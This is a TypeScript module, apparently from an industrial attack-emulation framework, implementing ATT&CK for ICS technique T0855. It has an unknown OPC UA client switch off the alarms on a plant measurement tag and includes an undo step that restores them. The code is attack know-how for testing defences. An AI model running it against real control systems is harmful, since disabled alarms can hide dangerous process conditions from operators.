// T0855 Unauthorized Command Message: a client that the server has never seen calls methods, and switches the alarms of a tag off.
import { z } from 'zod'
import type { Attack } from './attack.ts'
import { InsistSeconds } from './insist.ts'
import { asIdentity, OPCUA_HOSTS, opcuaAttacker, Secure, User } from './opcua-client.ts'
import { TargetTag } from './target.ts'
import { usualTag } from './usual-tag.ts'

const Parameters = z.strictObject({
  tag: TargetTag().optional().describe('Whose alarms are switched off; by default a measurement that the works keep a history of.'),
  user: User,
  secure: Secure,
  insistSeconds: InsistSeconds
})

export const opcuaCall = {
  name: 'opcua-call',
  title: { zh: '陌生 OPC UA 客户端调用', en: 'Call of a new OPC UA client' },
  technique: 'T0855',
  needs: ['opcua'],
  parameters: Parameters,
  async aim(foothold, { tag = usualTag(foothold.map, 'measurement'), user, secure, insistSeconds }) {
    const attacker = await opcuaAttacker(foothold)
    const setAlarms = (on: boolean) => attacker.setAlarms({ secure }, asIdentity(user), tag, on)
    return {
      ...{ tags: [tag], hosts: OPCUA_HOSTS, insistSeconds },
      strike: async () => void (await setAlarms(false)),
      async undo() {
        await setAlarms(true)
        await attacker[Symbol.asyncDispose]()
      }
    }
  }
} satisfies Attack<typeof Parameters>
